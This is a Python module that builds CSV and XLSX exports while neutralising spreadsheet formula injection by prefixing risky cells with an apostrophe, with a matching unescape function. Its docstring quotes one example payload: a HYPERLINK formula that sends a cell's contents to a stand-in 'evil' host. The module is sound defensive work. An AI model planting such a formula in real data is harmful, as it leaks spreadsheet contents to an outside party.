"""CSV and XLSX exports whose cells a spreadsheet shows as text and never runs as formulas.

A cell starting with `= + - @`, a tab or a carriage return is a formula (or becomes one) in Excel,
LibreOffice and WPS: `=HYPERLINK("http://evil/?"&A1, "点击")` in a customer name would run in the
supervisor's spreadsheet. Such cells get a leading apostrophe (OWASP's advice). A cell that already
starts with an apostrophe gets one too, so `unescape_cell` restores every exported value exactly and
an export -> import round trip never changes content (an answer starting with "-" stays as it was).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

QUOTE = "'"
_ESCAPED_START = ("=", "+", "-", "@", "\t", "\r", QUOTE)


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet must store it: strings that would start a formula are quoted."""
    if isinstance(value, str) and value.startswith(_ESCAPED_START):
        return QUOTE + value
    return value


def unescape_cell(value: str) -> str:
    """The inverse of `safe_cell` for imported text (a leading apostrophe a person typed before "abc" stays)."""
    if value.startswith(QUOTE) and value[1:].startswith(_ESCAPED_START):
        return value[1:]
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """CSV with a BOM (so Excel reads Chinese) and every cell made safe."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(h) for h in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return buffer.getvalue()


def xlsx_bytes(title: str, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """One worksheet; cells stripped of the control characters a worksheet's XML cannot hold, then made
    safe (openpyxl would store "=…" as a live formula)."""
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    for row in (header, *rows):
        sheet.append([safe_cell(ILLEGAL_CHARACTERS_RE.sub("", v) if isinstance(v, str) else v) for v in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
